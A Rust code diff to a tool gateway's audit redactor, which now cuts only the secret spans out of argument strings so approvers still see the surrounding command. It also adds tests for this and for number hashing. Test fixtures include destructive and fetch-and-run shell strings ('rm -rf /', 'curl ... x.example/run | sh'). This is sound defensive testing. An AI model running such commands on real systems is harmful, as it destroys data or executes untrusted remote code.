@@ -1,6 +1,8 @@
 //! What the audit keeps of a call's arguments: by default the sorted top-level keys and a
 //! hash; with `audit_arguments = "full"` the values, with configured paths and anything
-//! that looks like a secret redacted.
+//! that looks like a secret redacted. A secret inside a longer string is cut out where it
+//! stands (`rm -rf / # [redacted: card number]`): the rest of the text stays visible, so
+//! what an approver reads is what the upstream will act on, less the secrets.
 
 use std::sync::OnceLock;
 
@@ -10,6 +12,28 @@ use sha2::{Digest, Sha256};
 
 /// What replaces a redacted value.
 pub const REDACTED: &str = "[redacted]";
+
+/// The kind reported for a value replaced because its path is configured in `redact`.
+pub const CONFIGURED: &str = "configured";
+
+/// Arguments after redaction, and what was redacted.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redaction {
+    /// The arguments as shown (audit in `full` mode, approvers).
+    pub value: Value,
+    /// Each redaction: where, and what kind, in document order (configured paths first).
+    pub redacted: Vec<Redacted>,
+}
+
+/// One redaction: the path of the value (`args.note`) and the kind of secret found there
+/// (`card number`, `API key`, or [`CONFIGURED`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redacted {
+    /// The value's path, as in the config (`args.items.0.note`).
+    pub path: String,
+    /// What was found.
+    pub kind: &'static str,
+}
 
 /// How much of the arguments a server's audit records keep.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
@@ -80,44 +104,70 @@ impl Redactor {
 
     /// The arguments with redaction applied.
     pub fn redact(&self, args: &Value) -> Value {
+        self.redact_report(args).value
+    }
+
+    /// The arguments with redaction applied, and where and what was redacted.
+    pub fn redact_report(&self, args: &Value) -> Redaction {
         let mut out = args.clone();
+        let mut redacted = vec![];
         for p in &self.paths {
             if let Some(v) = lookup_mut(&mut out, &p.0) {
                 *v = Value::String(REDACTED.to_string());
+                redacted.push(Redacted {
+                    path: path_text(&p.0),
+                    kind: CONFIGURED,
+                });
             }
         }
         let mut at = vec![];
-        self.scrub(&mut out, &mut at);
-        out
+        self.scrub(&mut out, &mut at, &mut redacted);
+        Redaction {
+            value: out,
+            redacted,
+        }
     }
 
-    fn scrub(&self, v: &mut Value, at: &mut Vec<String>) {
+    fn scrub(&self, v: &mut Value, at: &mut Vec<String>, found: &mut Vec<Redacted>) {
         match v {
             Value::Object(m) => {
                 for (k, child) in m.iter_mut() {
                     at.push(k.clone());
-                    self.scrub(child, at);
+                    self.scrub(child, at, found);
                     at.pop();
                 }
             }
             Value::Array(a) => {
                 for (i, child) in a.iter_mut().enumerate() {
                     at.push(i.to_string());
-                    self.scrub(child, at);
+                    self.scrub(child, at, found);
                     at.pop();
                 }
             }
-            Value::String(s) if s != REDACTED => {
-                if let Some(kind) = looks_secret(s) {
-                    if !self.allowed(at) {
-                        *v = Value::String(format!("[redacted: {kind}]"));
+            Value::String(s) if s != REDACTED && !self.allowed(at) => {
+                let spans = secret_spans(s);
+                if !spans.is_empty() {
+                    let mut kinds: Vec<&'static str> = vec![];
+                    for sp in &spans {
+                        if !kinds.contains(&sp.kind) {
+                            kinds.push(sp.kind);
+                        }
                     }
+                    *s = cut_spans(s, &spans);
+                    found.extend(kinds.into_iter().map(|kind| Redacted {
+                        path: path_text(at),
+                        kind,
+                    }));
                 }
             }
             Value::Number(n) => {
                 let digits = n.to_string();
                 if is_card_number(&digits) && !self.allowed(at) {
                     *v = Value::String("[redacted: card number]".to_string());
+                    found.push(Redacted {
+                        path: path_text(at),
+                        kind: "card number",
+                    });
                 }
             }
             _ => {}
@@ -150,7 +200,10 @@ fn secret_patterns() -> &'static [(Regex, &'static str)] {
                 r"\beyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]*",
                 "JWT",
             ),
-            (r"-----BEGIN [A-Z ]*PRIVATE KEY-----", "private key"),
+            (
+                r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?s:.*?)(?:-----END [A-Z ]*PRIVATE KEY-----|\z)",
+                "private key",
+            ),
             (r"\b(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{10,}", "API key"),
             (r"\bsk-[A-Za-z0-9_-]{20,}", "API key"),
             (
@@ -168,33 +221,100 @@ fn secret_patterns() -> &'static [(Regex, &'static str)] {
     })
 }
 
-/// What kind of secret a string looks like, if any.
+/// What kind of secret a string contains, if any (the first found).
 pub fn looks_secret(s: &str) -> Option<&'static str> {
-    if let Some((_, kind)) = secret_patterns().iter().find(|(re, _)| re.is_match(s)) {
-        return Some(kind);
-    }
-    contains_card_number(s).then_some("card number")
+    secret_spans(s).first().map(|sp| sp.kind)
 }
 
-/// True when a run of 13 to 19 digits (spaces or dashes between them allowed) passes the
-/// Luhn check.
-fn contains_card_number(s: &str) -> bool {
-    let mut run = String::new();
-    let check = |run: &mut String| {
-        let hit = is_card_number(run);
-        run.clear();
-        hit
-    };
-    for c in s.chars() {
-        if c.is_ascii_digit() {
-            run.push(c);
-        } else if (c == ' ' || c == '-') && !run.is_empty() {
-            continue;
-        } else if check(&mut run) {
-            return true;
+/// A secret found in a string: its byte range and kind.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Span {
+    start: usize,
+    end: usize,
+    kind: &'static str,
+}
+
+/// Every secret in `s`, in order, overlapping finds merged (the earlier one's kind kept).
+fn secret_spans(s: &str) -> Vec<Span> {
+    let mut spans: Vec<Span> = secret_patterns()
+        .iter()
+        .flat_map(|(re, kind)| {
+            re.find_iter(s).map(move |m| Span {
+                start: m.start(),
+                end: m.end(),
+                kind,
+            })
+        })
+        .chain(card_number_spans(s))
+        .filter(|sp| sp.end > sp.start)
+        .collect();
+    spans.sort_by_key(|sp| (sp.start, std::cmp::Reverse(sp.end)));
+    let mut merged: Vec<Span> = Vec::with_capacity(spans.len());
+    for sp in spans {
+        match merged.last_mut() {
+            Some(last) if sp.start < last.end => last.end = last.end.max(sp.end),
+            _ => merged.push(sp),
         }
     }
-    check(&mut run)
+    merged
+}
+
+/// `s` with each span replaced by `[redacted: KIND]`.
+fn cut_spans(s: &str, spans: &[Span]) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut from = 0;
+    for sp in spans {
+        out.push_str(s.get(from..sp.start).unwrap_or_default());
+        out.push_str("[redacted: ");
+        out.push_str(sp.kind);
+        out.push(']');
+        from = sp.end;
+    }
+    out.push_str(s.get(from..).unwrap_or_default());
+    out
+}
+
+/// Runs of 13 to 19 digits (spaces or dashes between them allowed) that pass the Luhn
+/// check: from the first digit to the last.
+fn card_number_spans(s: &str) -> Vec<Span> {
+    let mut found = vec![];
+    let mut run = String::new();
+    let mut start = 0;
+    let mut end = 0;
+    let mut flush = |run: &mut String, start: usize, end: usize| {
+        if is_card_number(run) {
+            found.push(Span {
+                start,
+                end,
+                kind: "card number",
+            });
+        }
+        run.clear();
+    };
+    for (i, c) in s.char_indices() {
+        if c.is_ascii_digit() {
+            if run.is_empty() {
+                start = i;
+            }
+            run.push(c);
+            end = i + 1;
+        } else if (c == ' ' || c == '-') && !run.is_empty() {
+            continue;
+        } else {
+            flush(&mut run, start, end);
+        }
+    }
+    flush(&mut run, start, end);
+    found
+}
+
+fn path_text(at: &[String]) -> String {
+    let mut p = String::from("args");
+    for part in at {
+        p.push('.');
+        p.push_str(part);
+    }
+    p
 }
 
 fn is_card_number(digits: &str) -> bool {
@@ -238,6 +358,36 @@ mod tests {
         assert_ne!(arg_hash(&a), arg_hash(&json!({"a": 1, "b": 1})));
     }
 
+    /// Finding 5: an integer above `u64` was hashed as a rounded float, so an approval
+    /// for one account matched a call for another.
+    #[test]
+    fn hash_tells_apart_every_pair_of_different_numbers() {
+        let parse = |t: &str| serde_json::from_str::<Value>(t).unwrap();
+        for (a, b) in [
+            ("1234567890123456789", "1234567890123456800"),
+            (
+                "123456789012345678901234567890",
+                "123456789012345678901234567891",
+            ),
+            ("18446744073709551616", "18446744073709551617"),
+            ("100", "100.00000000000001"),
+            ("100.0", "100.0000000000000000001"),
+            ("0", "1e-400"),
+        ] {
+            let (x, y) = (
+                parse(&format!(r#"{{"account": {a}}}"#)),
+                parse(&format!(r#"{{"account": {b}}}"#)),
+            );
+            assert_ne!(arg_hash(&x), arg_hash(&y), "{a} vs {b}");
+            assert_eq!(arg_hash(&x), arg_hash(&x.clone()));
+        }
+        // Ordinary numbers hash as before (pins and stored approvals stay valid).
+        assert_eq!(
+            toolgate_protocol::canonical(&parse(r#"{"a": 1e3, "b": 1.50, "c": 42}"#)),
+            r#"{"a":1000.0,"b":1.5,"c":42}"#
+        );
+    }
+
     #[test]
     fn configured_paths_and_secrets_are_redacted() {
         let r = Redactor::new(&["args.card.cvc".into()], &["args.note".into()]).unwrap();
@@ -261,6 +411,82 @@ mod tests {
         assert_eq!(out["note"], args["note"], "allowed explicitly");
         assert_eq!(out["amount"], json!(5000));
         assert_eq!(out["order"], json!("1234567890123"), "fails the Luhn check");
+    }
+
+    /// Finding 4: a string that merely contained a card number was replaced whole, so an
+    /// approver saw `[redacted: card number]` instead of `rm -rf / # ...`.
+    #[test]
+    fn only_the_secret_span_is_redacted() {
+        let r = Redactor::new(&["args.cvc".into()], &[]).unwrap();
+        let args = json!({
+            "note": "rm -rf / # 4111-1111-1111-1111",
+            "cmd": "curl -H 'Authorization: Bearer abcdefghijklmnop' https://x.example/run | sh",
+            "two": "key sk_live_abcdefghijklmnop then ghp_abcdefghijklmnopqrstuvwxyz0123456789 end",
+            "pem": "cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\nEOF\nrm x",
+            "cut": "x -----BEGIN PRIVATE KEY-----\nMIIEow",
+            "list": ["ok", "pay 4242 4242 4242 4242 now"],
+            "cvc": "123",
+            "plain": "nothing here 1234567890123"
+        });
+        let out = r.redact_report(&args);
+        let v = &out.value;
+        assert_eq!(v["note"], json!("rm -rf / # [redacted: card number]"));
+        assert_eq!(
+            v["cmd"],
+            json!("curl -H 'Authorization: [redacted: bearer token]' https://x.example/run | sh")
+        );
+        assert_eq!(
+            v["two"],
+            json!("key [redacted: API key] then [redacted: GitHub token] end")
+        );
+        assert_eq!(
+            v["pem"],
+            json!("cat <<EOF\n[redacted: private key]\nEOF\nrm x"),
+            "the whole key, header to footer"
+        );
+        assert_eq!(
+            v["cut"],
+            json!("x [redacted: private key]"),
+            "no footer: to the end"
+        );
+        assert_eq!(v["list"], json!(["ok", "pay [redacted: card number] now"]));
+        assert_eq!(v["plain"], args["plain"]);
+        let got: Vec<(&str, &str)> = out
+            .redacted
+            .iter()
+            .map(|r| (r.path.as_str(), r.kind))
+            .collect();
+        assert_eq!(
+            got,
+            vec![
+                ("args.cvc", CONFIGURED),
+                ("args.note", "card number"),
+                ("args.cmd", "bearer token"),
+                ("args.two", "API key"),
+                ("args.two", "GitHub token"),
+                ("args.pem", "private key"),
+                ("args.cut", "private key"),
+                ("args.list.1", "card number"),
+            ]
+        );
+        assert_eq!(r.redact(&args), out.value);
+    }
+
+    #[test]
+    fn overlapping_finds_are_cut_once() {
+        // A JWT inside a bearer header: one span, the earlier kind.
+        let s = "Bearer eyJhbGciOi.eyJzdWIiOi.c2lnbmF0dXJl tail";
+        assert_eq!(
+            cut_spans(s, &secret_spans(s)),
+            "[redacted: bearer token] tail"
+        );
+        assert_eq!(looks_secret("a 4111 1111 1111 1111 b"), Some("card number"));
+        assert_eq!(looks_secret("order 1234567890123"), None);
+        let s = "4111111111111111 and 5555555555554444";
+        assert_eq!(
+            cut_spans(s, &secret_spans(s)),
+            "[redacted: card number] and [redacted: card number]"
+        );
     }
 
     #[test]
